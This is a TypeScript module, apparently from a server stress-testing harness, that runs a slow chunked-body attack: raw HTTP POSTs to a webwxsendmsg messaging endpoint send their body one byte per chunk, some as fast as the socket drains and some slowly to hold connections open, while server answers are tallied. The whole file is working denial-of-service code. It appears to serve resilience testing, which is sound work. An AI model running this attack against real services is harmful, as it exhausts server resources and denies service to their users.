// (b) Chunked HTTP bodies trickled one byte per chunk: raw requests with
// Transfer-Encoding: chunked whose every chunk carries one byte of a
// webwxsendmsg body. Some write as fast as their socket drains (the most
// chunks the server can be made to handle) until the body passes the
// profile's size; others write one chunk every so often and hold their
// request open for the whole attack. The answers are tallied; a request
// still unanswered when the attack ends is finished and given a moment.
import net from 'node:net';
import http from 'node:http';
import { login, registerAll, type AttackEnv, type Session } from '../attack-kit.ts';
import { workers, type Attack } from './attack.ts';

/** One-byte chunks per write of a fast request: a write is then about 1.5 KB on the wire. */
const CHUNKS_PER_WRITE = 256;
/** An unfinished request gets this long for its answer once it is finished. */
const ANSWER_AFTER_END_MS = 3000;
const CHUNK = (b: string): string => `1\r\n${b}\r\n`;

/** The status and JSON body of a raw HTTP/1.1 response (or undefined while it is incomplete). */
function parseResponse(raw: Buffer): { status: number; ret: number | undefined } | undefined {
  const end = raw.indexOf('\r\n\r\n');
  if (end < 0) return undefined;
  const head = raw.subarray(0, end).toString('latin1');
  const status = Number(/^HTTP\/1\.[01] (\d{3})/.exec(head)?.[1] ?? 0);
  const len = Number(/\r\ncontent-length: *(\d+)/i.exec(head)?.[1] ?? -1);
  if (len >= 0 && raw.length < end + 4 + len) return undefined;
  let ret: number | undefined;
  try {
    ret = JSON.parse(raw.subarray(end + 4, end + 4 + Math.max(0, len)).toString('utf8'))?.BaseResponse?.Ret;
  } catch {
    ret = undefined;
  }
  return { status, ret };
}

/** One chunked request; resolves when it is answered or gone. `fast`: chunks as fast as the socket drains, else one per `everyMs`. */
function trickle(env: AttackEnv, session: Session, victim: string, bodyBytes: number, fast: boolean, everyMs: number): Promise<void> {
  return new Promise((resolve) => {
    const s = env.sockets.add(net.connect({ host: env.http.host, port: env.http.port, ...env.source }));
    const head = `{"BaseRequest":${JSON.stringify(session)},"Msg":{"ClientMsgId":"trickle","ToUserName":"${victim}","Type":1,"Content":"`;
    const tail = '"},"Scene":0}';
    let written = 0;
    let answered: { status: number; ret: number | undefined } | undefined;
    let raw = Buffer.alloc(0);
    let timer: NodeJS.Timeout | undefined;
    let done = false;
    const finish = (): void => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      if (answered) {
        const kind = `HTTP ${answered.status}${answered.ret !== undefined ? ` Ret ${answered.ret}` : ''}`;
        if (answered.status === 200 && answered.ret === 0) env.tally.accept(kind);
        else env.tally.refuse(kind);
      } else env.tally.refuse(written >= bodyBytes ? 'HTTP closed without an answer' : 'HTTP no answer when the attack ended');
      s.destroy();
      resolve();
    };
    // The body's bytes one per chunk: the JSON head, then content, then the tail once the size is reached.
    const byteAt = (i: number): string => (i < head.length ? head[i]! : 'x');
    const endBody = (): void => {
      if (s.destroyed) return;
      s.write(`${[...tail].map(CHUNK).join('')}0\r\n\r\n`);
      timer = setTimeout(finish, ANSWER_AFTER_END_MS);
    };
    const step = (): void => {
      if (done || answered || s.destroyed) return;
      if (!env.open || written >= bodyBytes) return endBody();
      const from = written;
      let out = '';
      while (written < Math.min(bodyBytes, from + (fast ? CHUNKS_PER_WRITE : 1))) out += CHUNK(byteAt(written++));
      env.count('one-byte chunks written', written - from);
      const flowing = s.write(out);
      if (!fast) timer = setTimeout(step, everyMs);
      else if (flowing) setImmediate(step);
      else s.once('drain', step);
    };
    s.on('data', (c: Buffer) => {
      raw = Buffer.concat([raw, c]);
      answered ??= parseResponse(raw);
      if (answered) finish();
    });
    s.on('error', () => {});
    s.on('close', finish);
    s.once('connect', () => {
      env.count('requests');
      s.write(`POST /cgi-bin/mmwebwx-bin/webwxsendmsg HTTP/1.1\r\nHost: ${env.http.host}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n`);
      step();
    });
  });
}

export const chunkedBody: Attack = {
  name: 'chunked-body',
  title: 'chunked bodies, one byte per chunk',
  what: (s) =>
    `${s.chunkedBody.fastRequests} chunked webwxsendmsg requests write one-byte chunks as fast as their sockets drain, up to ${s.chunkedBody.bodyBytes.toLocaleString('en-US')} body bytes each; ` +
    `${s.chunkedBody.slowRequests} more write one chunk every ${s.chunkedBody.slowChunkEveryMs} ms and stay open throughout`,
  plan: (env, s) => {
    const c = s.chunkedBody;
    const attacker = `${env.prefix}a`;
    const victim = `${env.prefix}v`;
    let session: Session | undefined;
    return {
      prepare: async () => {
        await registerAll(env, [attacker, victim]);
        const agent = new http.Agent({ keepAlive: false });
        session = await login(env, agent, attacker, 'trickle-web');
        agent.destroy();
        if (!session) throw new Error('the attacker could not log in');
      },
      run: async () => {
        const fast = async (): Promise<void> => {
          // A fast request that was answered (413, say) is sent again while the attack lasts.
          while (env.open) await trickle(env, session!, victim, c.bodyBytes, true, 0);
        };
        await Promise.all([workers(c.fastRequests, fast), workers(c.slowRequests, () => trickle(env, session!, victim, c.bodyBytes, false, c.slowChunkEveryMs))]);
      },
    };
  },
};
